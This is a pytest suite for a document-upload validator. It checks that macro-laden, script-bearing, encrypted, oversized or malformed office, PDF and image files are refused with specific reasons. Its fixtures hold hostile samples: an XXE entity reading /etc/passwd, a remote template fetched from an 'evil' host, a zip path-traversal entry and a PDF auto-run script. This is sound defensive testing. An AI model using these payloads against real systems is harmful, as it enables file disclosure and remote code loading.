"""Uploads are judged by content; whatever runs, expands or is broken is refused with its own reason."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from contextlib import suppress

import docx
import pytest
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as st
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests.kernel.documents.samples import DECISION
from yuheng.kernel.documents.docx import render_docx
from yuheng.kernel.documents.pdf import render_pdf
from yuheng.kernel.documents.uploads import BadUpload, Limits, check
from yuheng.kernel.ledger.canonical import sm3


def png(width: int = 4, height: int = 4) -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 52)) + chunk(b"IEND", b"")


def jpeg(width: int = 4, height: int = 4) -> bytes:
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 17, 8, height, width, 3) + bytes(9)
    return b"\xff\xd8\xff\xe0" + struct.pack(">H", 16) + b"JFIF\0" + bytes(9) + frame + b"\xff\xd9" + bytes(8)


def workbook() -> bytes:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    book.add_worksheet().write(0, 0, "台账")
    book.close()
    return out.getvalue()


def pdf_with(change: str) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    if change == "script":
        action = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)
    elif change == "attachment":
        writer.add_attachment("a.exe", b"MZ")
    elif change == "locked":
        writer.encrypt("secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def packed(extra: dict[str, bytes], base: bytes | None = None, *, drop: str = "") -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base or render_docx(DECISION))) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for name in source.namelist():
            if name != drop and name not in extra:
                target.writestr(name, source.read(name))
        for name, data in extra.items():
            target.writestr(name, data)
    return out.getvalue()


def refused(data: bytes, **more: object) -> str:
    with pytest.raises(BadUpload) as found:
        check(data, **more)  # type: ignore[arg-type]
    assert any("\u4e00" <= letter <= "\u9fff" for letter in str(found.value))
    return found.value.code


def test_what_offices_send_is_taken_and_named_by_its_content() -> None:
    word = io.BytesIO()
    docx.Document().save(word)
    samples = {
        "docx": word.getvalue(),
        "xlsx": workbook(),
        "pdf": render_pdf(DECISION),
        "png": png(),
        "jpeg": jpeg(),
        "text": "投诉内容".encode(),
    }
    for kind, data in samples.items():
        upload = check(data)
        assert (upload.kind, upload.size, upload.digest) == (kind, len(data), sm3(data).hex())
    assert check(render_docx(DECISION)).media.endswith("wordprocessingml.document")


def test_a_step_takes_only_the_kinds_it_names() -> None:
    assert check(png(), allowed=frozenset({"png", "jpeg"})).kind == "png"
    assert refused(render_pdf(DECISION), allowed=frozenset({"png"})) == "kind"


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "empty"),
        (b"MZ\x90\x00" + bytes(50), "program"),
        (b"#!/bin/sh\nrm", "program"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100), "old_office"),
        (b"<html><script>alert(1)</script>", "kind"),
        (b"<svg onload='x'>", "kind"),
        (b"\x00\x01\x02", "kind"),
        (b"%PDF-1.7 broken", "broken"),
        (b"PK\x03\x04broken", "broken"),
        (png()[:40], "broken"),
        (jpeg()[:8], "broken"),
        (png(40_000, 40_000), "bomb"),
        (jpeg(60_000, 60_000), "bomb"),
        (pdf_with("script"), "active"),
        (pdf_with("attachment"), "active"),
        (pdf_with("locked"), "locked"),
        (packed({"word/vbaProject.bin": b"x"}), "macro"),
        (packed({"xl/macrosheets/sheet1.xml": b"<x/>"}, workbook()), "macro"),
        (packed({"word/embeddings/oleObject1.bin": b"x"}), "macro"),
        (
            packed({"[Content_Types].xml": b"<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>"}),
            "macro",
        ),
        (packed({"word/evil.xml": b"<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x/>"}), "entity"),
        (
            packed(
                {
                    "word/_rels/settings.xml.rels": b"<Relationships><Relationship Id='a' Type='http://x/attachedTemplate' Target='http://evil/t.dotm' TargetMode='External'/></Relationships>"
                }
            ),
            "outside",
        ),
        (packed({"../../etc/passwd": b"x"}), "broken"),
        (packed({"word/media/big.xml": b"0" * 40_000_000}), "bomb"),
        (packed({}, drop="word/document.xml"), "archive"),
    ],
)
def test_what_may_not_be_kept_is_refused_with_its_reason(data: bytes, code: str) -> None:
    assert refused(data) == code


def test_size_limits_depend_on_the_kind() -> None:
    small = Limits(document=1000, picture=60)
    assert refused(render_pdf(DECISION), limits=small) == "size"
    assert refused(png(), limits=small) == "size"
    assert refused("字".encode() * 3_000_000) == "size"


def test_a_part_that_lies_about_its_size_is_refused() -> None:
    data = bytearray(packed({"word/lie.xml": b"1" * 5000}))
    place = data.rindex(b"word/lie.xml") - 46
    struct.pack_into("<I", data, place + 24, 10)
    assert refused(bytes(data)) in {"bomb", "broken"}


@settings(max_examples=60, deadline=None)
@given(st.data())
def test_a_damaged_file_is_refused_or_taken_but_never_breaks_the_check(data: st.DataObject) -> None:
    source = bytearray(data.draw(st.sampled_from([_PDF, _DOCX, png(), jpeg()])))
    for _ in range(data.draw(st.integers(1, 8))):
        source[data.draw(st.integers(0, len(source) - 1))] = data.draw(st.integers(0, 255))
    with suppress(BadUpload):
        check(bytes(source[: data.draw(st.integers(1, len(source)))]))


_PDF, _DOCX = pdf_with("nothing"), render_docx(DECISION)
